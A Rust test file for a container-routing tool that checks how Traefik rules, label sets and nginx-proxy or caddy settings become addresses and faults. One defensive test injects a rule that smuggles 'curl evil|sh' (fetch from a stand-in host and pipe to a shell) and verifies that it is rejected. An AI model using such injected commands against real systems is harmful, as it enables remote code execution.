//! Rules, label sets and other proxies' settings against what the real programs made of them. The rules and the label
//! sets of Traefik ran on Traefik 3.7.15; what it did stands beside each.
#![expect(
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test that cannot set its scene must fail"
)]
use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value;
use stacktui::integrations::nginx_proxy;
use stacktui::model::container::{Container, Health, Port, RunState};
use stacktui::model::route::matcher::Syntax;
use stacktui::model::route::probe::Probe;
use stacktui::model::route::{
    self, Fault, Protocol, Route, Seen, Source, Sources, Told, ToldRouter, reads_environments,
};
use stacktui::model::{HostId, Key};

const CASES: &str = include_str!("data/traefik/cases.json");
/// What stands for the engine's machine.
const HERE: &str = "{docker_host}";

fn cases(part: &str) -> Vec<Value> {
    let all: Value = serde_json::from_str(CASES).unwrap();
    let cases = all[part].as_array().unwrap().clone();
    assert!(!cases.is_empty());
    cases
}

fn word(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

fn words(value: &Value) -> Vec<String> {
    let all = value.as_array().map_or(&[][..], Vec::as_slice);
    all.iter().map(|v| word(v).to_owned()).collect()
}

/// What Traefik would have been started with.
fn setup(context: &Value) -> Vec<(String, String)> {
    let mut pairs = Vec::new();
    let entries = context["entrypoints"].as_object().into_iter().flatten();
    for (name, entry) in entries {
        let address = entry.as_str().or(entry["address"].as_str()).unwrap();
        pairs.push((format!("entryPoints.{name}.address"), address.to_owned()));
        if entry["http.tls"].as_bool() == Some(true) {
            pairs.push((format!("entryPoints.{name}.http.tls"), "true".to_owned()));
        }
    }
    if let Some(exposed) = context["exposedByDefault"].as_bool() {
        let name = "providers.docker.exposedByDefault".to_owned();
        pairs.push((name, exposed.to_string()));
    }
    if let Some(rule) = context["defaultRule"].as_str() {
        pairs.push(("providers.docker.defaultRule".to_owned(), rule.to_owned()));
    }
    pairs
}

fn traefik(context: &Value, image: &str) -> (Container, Seen) {
    let mut proxy = Container::bare(Key::container(HostId(0), "proxy"), "traefik");
    proxy.image = image.to_owned();
    proxy.state = RunState::Running;
    proxy
        .labels
        .insert("traefik.enable".to_owned(), "false".to_owned());
    for (port, public) in context["traefik_published"]
        .as_object()
        .into_iter()
        .flatten()
    {
        proxy.ports.push(Port {
            private: port.split('/').next().unwrap().parse().unwrap(),
            public: Some(public.as_u64().unwrap() as u16),
            ip: "0.0.0.0".to_owned(),
            protocol: "tcp".to_owned(),
        });
    }
    let seen = Seen {
        file: setup(context),
        ..Seen::default()
    };
    (proxy, seen)
}

fn container(case: &Value) -> Container {
    let told = &case["container"];
    let name = told["name"].as_str().unwrap_or("c1");
    let mut container = Container::bare(Key::container(HostId(0), name), name);
    let (state, health) = word(&told["state"])
        .split_once('/')
        .unwrap_or((word(&told["state"]), ""));
    container.state = RunState::parse(if state.is_empty() { "running" } else { state });
    container.health = match health {
        "unhealthy" => Some(Health::Unhealthy),
        "starting" => Some(Health::Starting),
        _ => None,
    };
    let ports = told
        .get("exposed_ports")
        .map_or_else(|| vec!["80/tcp".to_owned()], words);
    for port in ports {
        let (private, protocol) = port.split_once('/').unwrap();
        container.ports.push(Port {
            private: private.parse().unwrap(),
            protocol: protocol.to_owned(),
            ..Port::default()
        });
    }
    let labels = case["labels"].as_object().into_iter().flatten();
    container.labels = labels
        .map(|(k, v)| (k.clone(), word(v).to_owned()))
        .collect();
    container
}

fn routes(containers: &[&Container], seen: &BTreeMap<Key, Seen>) -> Vec<Route> {
    let all = route::all(Sources {
        containers,
        seen,
        docker_host: HERE,
    });
    all.into_iter()
        .filter(|route| route.source != Source::Port)
        .collect()
}

/// The routes of a rule under a syntax.
fn ruled(case: &Value, syntax: Syntax) -> Vec<Route> {
    let mut container = container(&serde_json::json!({}));
    let own = case["labels"].as_object().into_iter().flatten();
    for (name, value) in own {
        let label = match name.strip_prefix("service.") {
            Some(field) => format!("traefik.http.services.x.loadbalancer.server.{field}"),
            None => format!("traefik.http.routers.x.{name}"),
        };
        container.labels.insert(label, word(value).to_owned());
    }
    let rule = "traefik.http.routers.x.rule".to_owned();
    container
        .labels
        .insert(rule, word(&case["rule"]).to_owned());
    let (proxy, mut seen) = traefik(&case["context"], "traefik:v3.7.15");
    if !seen.file.is_empty() || syntax == Syntax::V2 {
        let name = "core.defaultRuleSyntax".to_owned();
        seen.file.push((name, syntax.word().to_owned()));
    }
    if case["context"]["entrypoints"].is_null() && !seen.file.is_empty() {
        for (name, port) in [("web", ":80"), ("websecure", ":443")] {
            seen.file
                .push((format!("entrypoints.{name}.address"), port.to_owned()));
        }
    }
    routes(
        &[&proxy, &container],
        &BTreeMap::from([(proxy.key.clone(), seen)]),
    )
}

#[test]
fn each_rule_gives_the_addresses_it_matches() {
    for case in cases("rules") {
        let id = word(&case["id"]);
        let expected = &case["expect"];
        let syntax = if case["syntax"] == "v3" {
            Syntax::V3
        } else {
            Syntax::V2
        };
        let found = ruled(&case, syntax);
        let [route] = found.as_slice() else {
            panic!("{id}: {found:?}")
        };
        let failed = matches!(route.fault, Some(Fault::BadRule(_)));
        assert_eq!(
            failed,
            expected["status"] == "error",
            "{id}: {:?}",
            route.fault
        );
        assert_eq!(route.urls, words(&expected["urls"]), "{id}");
        assert_eq!(route.patterns, words(&expected["patterns"]), "{id}");
        assert_eq!(route.conditions, words(&expected["conditions"]), "{id}");
        assert_eq!(route.excludes, words(&expected["excludes"]), "{id}");
        if let Some(port) = expected["backend_port"].as_u64() {
            assert_eq!(route.port, Some(port as u16), "{id}");
            assert_eq!(
                route.scheme.as_deref(),
                expected["backend_scheme"].as_str(),
                "{id}"
            );
        }
        if let Some(warning) = expected["warn"].as_str() {
            assert_eq!(warning, "trailing dot");
            assert!(route.hints.iter().any(|hint| hint.contains("dot")), "{id}");
        }
    }
}

#[test]
fn a_rule_leads_nowhere_exactly_where_the_real_traefik_routed_nothing() {
    let mut dead = 0;
    for case in cases("rules") {
        for syntax in [Syntax::V2, Syntax::V3] {
            let id = word(&case["id"]);
            let real = &case["verified_on_traefik_3_7_15"][syntax.word()];
            let routed = real["accepted"] == true && real["probe_routed"] != false;
            let found = ruled(&case, syntax);
            assert_eq!(
                found[0].fault.is_none(),
                routed,
                "{id} under {}: {:?}",
                syntax.word(),
                found[0].fault
            );
            dead += usize::from(!routed);
        }
    }
    assert!(dead > 10, "the cases have both");
}

#[test]
fn each_label_set_gives_what_traefik_made_of_it() {
    for case in cases("labels") {
        let id = word(&case["id"]);
        let expected = &case["expect"];
        let image = match case["context"]["version"].as_u64() {
            Some(1) => "traefik:1.7",
            _ => "traefik:v3.7.15",
        };
        let (proxy, mut seen) = traefik(&case["context"], image);
        if word(&expected["reason"]).contains("only the API knows") {
            seen.told = Some(refusal());
        }
        let container = container(&case);
        let seen = BTreeMap::from([(proxy.key.clone(), seen)]);
        let found = routes(&[&proxy, &container], &seen);
        let mine: Vec<&Route> = found
            .iter()
            .filter(|r| r.container.as_ref() == Some(&container.key))
            .collect();
        let open: Vec<String> = mine.iter().flat_map(|r| r.open()).cloned().collect();
        assert_eq!(open, words(&expected["urls"]), "{id}: {mine:?}");
        let redirects: Vec<String> = mine.iter().flat_map(|r| r.redirects.clone()).collect();
        assert_eq!(redirects, words(&expected["redirects"]), "{id}");
        let fault = mine.first().and_then(|route| route.fault.as_ref());
        let routed = expected["routed"] != false && expected["reason"].is_null();
        assert_eq!(fault.is_none(), routed, "{id}: {fault:?}");
        let Some(first) = mine.first() else { continue };
        for (field, is) in [
            ("router", first.name.clone()),
            ("kind", first.protocol.word().to_owned()),
            ("backend", first.backend.clone().unwrap_or_default()),
        ] {
            if let Some(wanted) = expected[field].as_str() {
                assert_eq!(is, wanted, "{id} {field}");
            }
        }
        if let Some(port) = expected["backend_port"].as_u64() {
            assert_eq!(first.port, Some(port as u16), "{id}");
        }
        if let Some(warning) = expected["warn"].as_str() {
            assert_eq!(warning, "Traefik v1 labels");
            assert!(
                first.hints.iter().any(|hint| hint.contains("Traefik 1")),
                "{id}"
            );
        }
    }
}

fn refusal() -> Told {
    let router = ToldRouter {
        name: "a".to_owned(),
        provider: "docker".to_owned(),
        status: "disabled".to_owned(),
        errors: vec!["middleware \"nosuch@file\" does not exist".to_owned()],
        ..ToldRouter::default()
    };
    Told {
        version: "3.7.15".to_owned(),
        routers: vec![router],
        whole: BTreeSet::from([Protocol::Http]),
    }
}

#[test]
fn other_proxies_give_their_addresses() {
    for case in cases("other_proxies") {
        let id = word(&case["id"]);
        let container = container(&case);
        let mut proxy = Container::bare(Key::container(HostId(0), "proxy"), "proxy");
        proxy.state = RunState::Running;
        proxy.image = "nginxproxy/nginx-proxy:1.6".to_owned();
        let mut caddy = Container::bare(Key::container(HostId(0), "caddy"), "caddy");
        caddy.state = RunState::Running;
        caddy.image = "example/edge:2".to_owned();
        caddy.command = "/bin/caddy docker-proxy".to_owned();
        let environment = case["env"].as_object().into_iter().flatten();
        let seen = Seen {
            environment: environment
                .map(|(k, v)| (k.clone(), word(v).to_owned()))
                .collect(),
            ..Seen::default()
        };
        let found = routes(
            &[&proxy, &caddy, &container],
            &BTreeMap::from([(container.key.clone(), seen)]),
        );
        let urls: Vec<String> = found.iter().flat_map(|r| r.urls.clone()).collect();
        assert_eq!(urls, words(&case["urls"]), "{id}");
        let patterns: Vec<String> = found.iter().flat_map(|r| r.patterns.clone()).collect();
        assert_eq!(patterns, words(&case["patterns"]), "{id}");
        assert!(
            found
                .iter()
                .all(|r| r.fault.is_none() && r.source.word() == word(&case["proxy"])),
            "{id}"
        );
        if let Some(port) = case["backend_port"].as_u64() {
            assert_eq!(found[0].port, Some(port as u16), "{id}");
        }
    }
}

/// A Traefik and one container behind it, all well.
struct Bench {
    containers: Vec<Container>,
    pairs: Vec<(String, String)>,
}

impl Bench {
    fn new() -> Self {
        let (proxy, seen) = traefik(
            &serde_json::json!({"entrypoints": {"web": ":80", "websecure": ":443"}, "exposedByDefault": false}),
            "traefik:v3.1",
        );
        let mut bench = Self {
            containers: vec![proxy],
            pairs: seen.file,
        };
        bench.containers[0].networks = vec![("proxy".to_owned(), "172.20.0.2".to_owned())];
        bench.add("shop", "Host(`shop.example`)");
        bench
    }

    fn add(&mut self, name: &str, rule: &str) {
        let labels = serde_json::json!({
            "traefik.enable": "true",
            "traefik.http.routers.shop.rule": rule,
            "traefik.http.routers.shop.entrypoints": "websecure",
            "traefik.http.routers.shop.tls": "true",
        });
        let mut added =
            container(&serde_json::json!({ "container": {"name": name}, "labels": labels }));
        added.networks = vec![("proxy".to_owned(), "172.20.0.3".to_owned())];
        self.containers.push(added);
    }

    fn shop(&mut self) -> &mut Container {
        &mut self.containers[1]
    }

    fn routes(&self) -> Vec<Route> {
        let containers: Vec<&Container> = self.containers.iter().collect();
        let seen = Seen {
            file: self.pairs.clone(),
            ..Seen::default()
        };
        routes(
            &containers,
            &BTreeMap::from([(self.containers[0].key.clone(), seen)]),
        )
    }

    /// Why the shop's route leads nowhere: the short words and the sentence.
    fn why(&self) -> (&'static str, String) {
        let found = self.routes();
        let fault = found[0]
            .fault
            .as_ref()
            .unwrap_or_else(|| panic!("{found:?}"));
        assert_eq!(found[0].status(), "dead");
        assert_eq!(
            found[0].urls,
            ["https://shop.example"],
            "what was meant is still told"
        );
        (fault.short(), fault.words())
    }
}

#[test]
fn a_well_container_is_reached() {
    let found = Bench::new().routes();
    assert_eq!((found.len(), found[0].status()), (1, "ok"));
    assert_eq!(found[0].open(), ["https://shop.example"]);
}

#[test]
fn constraints_leave_out_what_does_not_fit_and_say_so() {
    let constrained = |expression: &str| {
        let mut bench = Bench::new();
        let name = "providers.docker.constraints".to_owned();
        bench.pairs.push((name, expression.to_owned()));
        let labels = &mut bench.shop().labels;
        labels.insert("zone".to_owned(), "public".to_owned());
        bench
    };
    for fits in ["Label(`zone`,`public`)", "!LabelRegex(`zone`,`^intern`)"] {
        assert_eq!(constrained(fits).routes()[0].fault, None, "{fits}");
    }
    let (short, words) = constrained("Label(`zone`,`internal`)").why();
    assert_eq!(short, "constraints");
    assert!(
        words.ends_with("constraints: Label(`zone`,`internal`)"),
        "{words}"
    );
    let (_, words) = constrained("Tag(`zone`)").why();
    assert!(
        words.contains("no container is taken: Traefik knows no Tag"),
        "{words}"
    );
    // What switches itself off is off, whatever the constraints say.
    let mut bench = constrained("Label(`zone`,`internal`)");
    bench
        .shop()
        .labels
        .insert("traefik.enable".to_owned(), "false".to_owned());
    assert_eq!(bench.routes()[0].fault, Some(Fault::Off));
}

#[test]
fn several_ports_under_the_names_of_one_container_go_over_all_else() {
    let mut proxy = Container::bare(Key::container(HostId(0), "proxy"), "proxy");
    proxy.state = RunState::Running;
    proxy.image = "nginxproxy/nginx-proxy:1.6".to_owned();
    let mut app = Container::bare(Key::container(HostId(0), "app"), "app");
    app.state = RunState::Running;
    let environment = [
        ("VIRTUAL_HOST", "old.example"),
        ("LETSENCRYPT_HOST", "a.example"),
        (
            "VIRTUAL_HOST_MULTIPORTS",
            "a.example: {/: {port: 8080}, /api: {port: 9000, proto: https}}\n'*.b.example':",
        ),
    ];
    let environment: Vec<(String, String)> = environment
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .into();
    let seen = Seen {
        multiports: nginx_proxy::multiports(&environment),
        environment,
        ..Seen::default()
    };
    let found = routes(&[&proxy, &app], &BTreeMap::from([(app.key.clone(), seen)]));
    let told: Vec<_> = found
        .iter()
        .map(|r| (r.title(), r.port, r.scheme.as_deref()))
        .collect();
    assert_eq!(
        told,
        [
            ("https://a.example", Some(8080), None),
            ("https://a.example/api", Some(9000), Some("https")),
            ("*.b.example", Some(80), None),
        ]
    );
    let keys: BTreeSet<_> = found.iter().map(|route| &route.key).collect();
    assert_eq!(keys.len(), 3, "each is a route of its own");
}

#[test]
fn a_virtual_host_without_an_nginx_proxy_leads_nowhere_and_says_so() {
    let mut app = Container::bare(Key::container(HostId(0), "app"), "app");
    app.state = RunState::Running;
    let seen = Seen {
        environment: vec![("VIRTUAL_HOST".to_owned(), "shop.example".to_owned())],
        ..Seen::default()
    };
    let seen = BTreeMap::from([(app.key.clone(), seen)]);
    let found = routes(&[&app], &seen);
    assert_eq!(found[0].title(), "http://shop.example");
    assert_eq!(found[0].fault, Some(Fault::NoProxy("nginx-proxy")));
    assert_eq!(found[0].open(), [""; 0]);
}

#[test]
fn the_environments_of_a_large_engine_are_asked_for_an_nginx_proxy_alone() {
    let mut all: Vec<Container> = (0..101)
        .map(|n| Container::bare(Key::container(HostId(0), &n.to_string()), "app"))
        .collect();
    assert!(!reads_environments(&all));
    assert!(reads_environments(&all[..100]));
    all[70].image = "nginxproxy/nginx-proxy:1.6".to_owned();
    assert!(reads_environments(&all));
}

#[test]
fn a_stopped_container_is_not_reached() {
    let mut bench = Bench::new();
    bench.shop().state = RunState::Exited;
    bench.shop().exit_code = Some(137);
    let (short, words) = bench.why();
    assert_eq!(short, "stopped");
    assert!(words.contains("137"), "{words}");
}

#[test]
fn an_unhealthy_container_is_taken_out() {
    let mut bench = Bench::new();
    bench.shop().health = Some(Health::Unhealthy);
    assert_eq!(bench.why().0, "unhealthy");
}

#[test]
fn a_container_whose_check_has_not_passed_is_not_yet_in() {
    let mut bench = Bench::new();
    bench.shop().health = Some(Health::Starting);
    assert_eq!(bench.why().0, "starting");
}

#[test]
fn a_paused_container_is_not_reached() {
    let mut bench = Bench::new();
    bench.shop().state = RunState::Paused;
    assert_eq!(bench.why().0, "paused");
}

#[test]
fn one_misspelt_label_leaves_the_container_out_and_the_nearest_is_named() {
    let mut bench = Bench::new();
    let label = "traefik.http.routers.shop.entrypoint".to_owned();
    bench.shop().labels.insert(label, "web".to_owned());
    let (short, words) = bench.why();
    assert_eq!(short, "misspelt label");
    assert!(words.ends_with("entrypoints?"), "{words}");
}

#[test]
fn without_a_port_there_is_nowhere_to_lead() {
    let mut bench = Bench::new();
    bench.shop().ports.clear();
    assert_eq!(bench.why().0, "no port");
    let label = "traefik.http.services.s.loadbalancer.server.port".to_owned();
    bench.shop().labels.insert(label, "8080".to_owned());
    assert_eq!(bench.routes()[0].port, Some(8080));
    assert_eq!(bench.routes()[0].status(), "ok");
}

#[test]
fn two_containers_that_make_one_router_differently_lose_both() {
    let mut bench = Bench::new();
    bench.add("other", "Host(`other.example`)");
    let (short, words) = bench.why();
    assert_eq!(short, "duplicate name");
    assert!(words.contains("other has another router shop"), "{words}");
    assert_eq!(bench.routes()[1].status(), "dead");
    // Instances of one service say the same.
    bench.containers.pop();
    bench.add("twin", "Host(`shop.example`)");
    assert!(bench.routes().iter().all(|route| route.status() == "ok"));
    // And one that does not run makes none.
    bench.containers.pop();
    bench.add("other", "Host(`other.example`)");
    bench.containers[2].state = RunState::Exited;
    assert_eq!(bench.routes()[0].status(), "ok");
}

#[test]
fn a_rule_of_version_2_is_told_under_version_3() {
    let mut bench = Bench::new();
    let rule = "traefik.http.routers.shop.rule".to_owned();
    bench
        .shop()
        .labels
        .insert(rule, "Host(`shop.example`, `www.shop.example`)".to_owned());
    let found = bench.routes();
    let fault = found[0].fault.as_ref().unwrap();
    assert_eq!(fault.short(), "v2 rule under v3");
    assert_eq!(found[0].urls.len(), 2, "read as it was meant");
    let syntax = "traefik.http.routers.shop.ruleSyntax".to_owned();
    bench.shop().labels.insert(syntax, "v2".to_owned());
    assert_eq!(bench.routes()[0].status(), "ok");
}

#[test]
fn a_container_in_no_network_of_traefik_is_not_reached() {
    let mut bench = Bench::new();
    bench.shop().networks = vec![("shop_default".to_owned(), "172.21.0.3".to_owned())];
    let (short, words) = bench.why();
    assert_eq!(short, "other network");
    assert!(words.contains("shop_default"), "{words}");
    let proxy = ("proxy".to_owned(), "172.20.0.3".to_owned());
    bench.shop().networks.push(proxy);
    assert_eq!(
        bench.routes()[0].status(),
        "ok",
        "one shared network is enough"
    );
    let label = "traefik.docker.network".to_owned();
    bench.shop().labels.insert(label, "shop_default".to_owned());
    assert_eq!(
        bench.why().0,
        "other network",
        "the label chooses the wrong one"
    );
}

#[test]
fn nothing_is_reached_through_a_proxy_that_does_not_run() {
    let mut bench = Bench::new();
    bench.containers[0].state = RunState::Exited;
    assert_eq!(bench.why().0, "proxy is down");
}

#[test]
fn labels_that_no_proxy_of_the_engine_reads_lead_nowhere() {
    let mut bench = Bench::new();
    bench.containers[0].image = "registry.example/edge:1".to_owned();
    let (short, words) = bench.why();
    assert_eq!(short, "no proxy here");
    assert!(words.contains("no Traefik runs on this engine"), "{words}");
    let title = "org.opencontainers.image.title".to_owned();
    bench.containers[0]
        .labels
        .insert(title, "Traefik".to_owned());
    assert_eq!(bench.routes()[0].fault, None, "one of another name is one");

    let site = serde_json::json!({"labels": {"caddy": "wiki.example"}});
    let alone = container(&site);
    let found = routes(&[&alone], &BTreeMap::new());
    assert_eq!(found[0].fault, Some(Fault::NoProxy("caddy-docker-proxy")));
    assert_eq!((found[0].status(), found[0].open().len()), ("dead", 0));
}

#[test]
fn no_address_is_made_of_a_rule_that_nobody_wrote_for_what_is_left_out() {
    let mut bench = Bench::new();
    let labels = &mut bench.shop().labels;
    labels.remove("traefik.http.routers.shop.rule");
    labels.insert(
        "traefik.http.routers.shop.rul".to_owned(),
        "Host(`a.example`)".to_owned(),
    );
    let route = &bench.routes()[0];
    assert!(matches!(route.fault, Some(Fault::Misspelt(_))), "{route:?}");
    assert_eq!((route.title(), route.rule.as_str()), ("shop", ""));
}

#[test]
fn names_that_nothing_bears_are_told() {
    for (label, value, short) in [
        ("entrypoints", "wbe", "no such entry point"),
        ("middlewares", "nosuch", "no such middleware"),
        ("service", "nosuch", "no such service"),
    ] {
        let mut bench = Bench::new();
        let port = "traefik.http.services.s.loadbalancer.server.port".to_owned();
        bench.shop().labels.insert(port, "80".to_owned());
        let label = format!("traefik.http.routers.shop.{label}");
        bench.shop().labels.insert(label, value.to_owned());
        let found = bench.routes();
        assert_eq!(
            found[0].fault.as_ref().map(Fault::short),
            Some(short),
            "{found:?}"
        );
    }
}

#[test]
fn only_http_in_clear_text_is_asked_for_a_page() {
    let mut container = container(&serde_json::json!({
        "container": {"exposed_ports": []},
        "labels": {
            "traefik.tcp.routers.db.rule": "HostSNI(`db.example`)",
            "traefik.tcp.routers.db.entrypoints": "db",
            "traefik.tcp.routers.db.tls": "true",
            "traefik.tcp.services.db.loadbalancer.server.port": "5432",
        },
    }));
    for port in [8080, 8443] {
        container.ports.push(Port {
            private: port,
            public: Some(port),
            protocol: "tcp".to_owned(),
            ..Port::default()
        });
    }
    let (proxy, seen) = traefik(
        &serde_json::json!({"entrypoints": {"db": ":5432"}}),
        "traefik:v3.1",
    );
    let seen = BTreeMap::from([(proxy.key.clone(), seen)]);
    let found = route::all(Sources {
        containers: &[&proxy, &container],
        seen: &seen,
        docker_host: HERE,
    });
    let probe = |title: &str| {
        let route = found.iter().find(|route| route.title().contains(title));
        let route = route.unwrap_or_else(|| panic!("{title} in {found:?}"));
        Probe::of(route, &container)
    };
    assert_eq!(probe("db.example"), None, "a database");
    assert!(!probe(":8080").unwrap().tls);
    assert!(
        probe(":8443").unwrap().tls,
        "no clear text to a port of TLS"
    );
}

#[test]
fn no_control_character_of_a_rule_gets_into_an_address() {
    for rule in [
        "Host(\"shop.example\\ncurl evil|sh\\n\")",
        "Host(`shop.example`) && PathPrefix(\"/a\\tb\")",
    ] {
        let mut bench = Bench::new();
        bench
            .shop()
            .labels
            .insert("traefik.http.routers.shop.rule".to_owned(), rule.to_owned());
        let found = bench.routes();
        assert_eq!(found[0].fault.as_ref().unwrap().short(), "bad rule");
        assert_eq!(found[0].open(), [] as [&str; 0]);
        let told = [found[0].title(), &found[0].fault.as_ref().unwrap().words()].concat();
        assert!(!told.contains(char::is_control), "{told:?}");
    }
}

#[test]
fn an_account_that_is_not_whole_makes_no_route_dead() {
    let judged = |whole: &[Protocol], traefiks: usize| {
        let mut bench = Bench::new();
        for n in 1..traefiks {
            let mut other = bench.containers[0].clone();
            other.key = Key::container(HostId(0), &format!("traefik{n}"));
            bench.containers.push(other);
        }
        let containers: Vec<&Container> = bench.containers.iter().collect();
        let seen = Seen {
            file: bench.pairs.clone(),
            told: Some(Told {
                version: "3.1.0".to_owned(),
                routers: Vec::new(),
                whole: whole.iter().copied().collect(),
            }),
            ..Seen::default()
        };
        let proxy = bench.containers[0].key.clone();
        routes(&containers, &BTreeMap::from([(proxy, seen)])).remove(0)
    };
    let partial = judged(&[Protocol::Tcp], 1);
    assert_eq!((partial.status(), partial.confirmed), ("ok", false));
    assert!(partial.hints.is_empty(), "{:?}", partial.hints);
    let whole = judged(&[Protocol::Http], 1);
    assert_eq!(whole.status(), "dead");
    let of_two = judged(&[Protocol::Http], 2);
    assert_eq!(of_two.status(), "ok", "the other one may have it");
    assert!(of_two.hints[0].contains("no such router"));
}
